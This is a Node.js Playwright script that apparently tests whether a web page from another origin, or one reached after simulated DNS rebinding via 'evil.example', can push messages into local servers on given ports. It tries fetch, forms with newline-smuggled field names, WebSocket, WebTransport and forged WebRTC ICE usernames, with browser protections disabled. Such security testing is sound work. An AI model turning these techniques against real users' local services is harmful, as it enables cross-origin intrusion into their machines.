// A web page that tries in every way it has to make Chromium write a message to ports of this machine.
//   node page.mjs USER-DATA-DIR PORT...
// The page comes from another origin; at the end also from the port's own, under a name that resolves to this
// machine, as after DNS rebinding. Says `tried WAY PORT` for each.
import { chromium } from 'playwright-core';

const [data_dir, ...ports] = process.argv.slice(2);
const REBOUND = 'evil.example';

const context = await chromium.launchPersistentContext(data_dir, {
  executablePath: '/usr/bin/chromium',
  headless: true,
  args: ['--no-sandbox', '--disable-gpu', '--no-first-run', '--disable-background-networking',
    '--disable-component-update', '--disable-sync', `--host-resolver-rules=MAP ${REBOUND} 127.0.0.1`,
    // Not all browsers keep pages from this machine.
    '--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,PrivateNetworkAccessSendPreflights'],
});

/** Runs in the page. */
const ways = {
  fetch: async (url, lines) => {
    for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data']) {
      for (const path of ['publish/room1', 'publish', '', '?room1=x']) {
        await fetch(url + path, { method: 'POST', mode: 'no-cors', body: lines, headers: { 'Content-Type': type } })
          .catch(() => {});
      }
    }
    await fetch(`${url}publish/room1`, { method: 'POST', body: lines }).catch(() => {});
    navigator.sendBeacon(`${url}publish/room1`, lines);
  },
  form: async (url, lines) => {
    for (const enctype of ['text/plain', 'multipart/form-data', 'application/x-www-form-urlencoded']) {
      const frame = Object.assign(document.createElement('iframe'), { name: `f${Math.random()}` });
      const form = Object.assign(document.createElement('form'),
        { action: `${url}publish/room1`, method: 'post', enctype, target: frame.name });
      const field = Object.assign(document.createElement('textarea'), { name: `\nroom1=x\n${lines}`, value: lines });
      form.append(field);
      document.body.append(frame, form);
      const done = new Promise((loaded) => { frame.onload = loaded; });
      form.submit();
      await Promise.race([done, new Promise((over) => setTimeout(over, 1000))]);
    }
  },
  image: (url, lines) => new Promise((done) => {
    const image = new Image();
    image.onload = image.onerror = done;
    setTimeout(done, 1000);
    image.src = `${url}publish/room1?${encodeURIComponent(lines)}`;
  }),
  websocket: (url, lines) => new Promise((done) => {
    const socket = new WebSocket(url.replace('http', 'ws') + 'publish/room1', ['room1.x']);
    socket.onopen = () => socket.send(lines);
    socket.onclose = socket.onerror = done;
    setTimeout(done, 1000);
  }),
  eventsource: (url) => new Promise((done) => {
    const source = new EventSource(`${url}live?room1=x`);
    source.onerror = source.onopen = () => { source.close(); done(); };
    setTimeout(done, 1000);
  }),
  tls: (url) => fetch(url.replace('http:', 'https:'), { method: 'POST', mode: 'no-cors' }).catch(() => {}),
  webtransport: async (url) => {
    const transport = new WebTransport(url.replace('http:', 'https:') + 'room1=x');
    const over = new Promise((over) => setTimeout(over, 1000));
    await Promise.race([transport.ready.catch(() => {}), transport.closed.catch(() => {}), over]);
  },
  // ICE over TCP: a STUN request whose user name the page chooses. Its length, 59 with the other side's four
  // letters, is the byte in front of it: `;`.
  webrtc: async (url) => {
    const name = 'room1=FORGED+BY+A+WEB+PAGE/THROUGH/WEBRTC/ICE/TCP_____';
    const peer = new RTCPeerConnection();
    peer.createDataChannel('x');
    await peer.setLocalDescription();
    const answer = ['v=0', 'o=- 1 2 IN IP4 127.0.0.1', 's=-', 't=0 0', 'a=group:BUNDLE 0',
      'm=application 9 UDP/DTLS/SCTP webrtc-datachannel', 'c=IN IP4 0.0.0.0',
      `a=ice-ufrag:${name}`, `a=ice-pwd:${'p'.repeat(24)}`,
      `a=fingerprint:sha-256 ${Array(32).fill('AA').join(':')}`, 'a=setup:active', 'a=mid:0', 'a=sctp-port:5000',
      `a=candidate:1 1 tcp 1518280447 127.0.0.1 ${new URL(url).port} typ host tcptype passive generation 0`, ''];
    await peer.setRemoteDescription({ type: 'answer', sdp: answer.join('\r\n') });
    await new Promise((over) => setTimeout(over, 2500));
    peer.close();
  },
};

/** Tries all ways from a page that lies at `at`, and that is the attacker's wherever it lies. */
const attack = async (at, url, name) => {
  const page = await context.newPage();
  await page.route(at, (route) => route.fulfill({ contentType: 'text/html', body: '<!doctype html>' }));
  await page.goto(at);
  const lines = '\r\n\r\nroom1=x\n{"to":"room1","data":"x"}\n';
  for (const [way, run] of Object.entries(ways)) {
    await page.evaluate(`(${run})(${JSON.stringify(url)}, ${JSON.stringify(lines)})`)
      .catch((error) => console.log(`${way} ${name}: ${error}`));
    console.log(`tried ${way} ${name}`);
  }
};

try {
  await Promise.all(ports.flatMap((port) => [
    attack('http://localhost:9/page', `http://127.0.0.1:${port}/`, port),
    // The first answer is the attacker's; what the page asks for then, this machine's.
    attack(`http://${REBOUND}:${port}/page`, `http://${REBOUND}:${port}/`, `rebound ${port}`),
  ]));
  console.log('done');
} finally {
  await context.close();
}
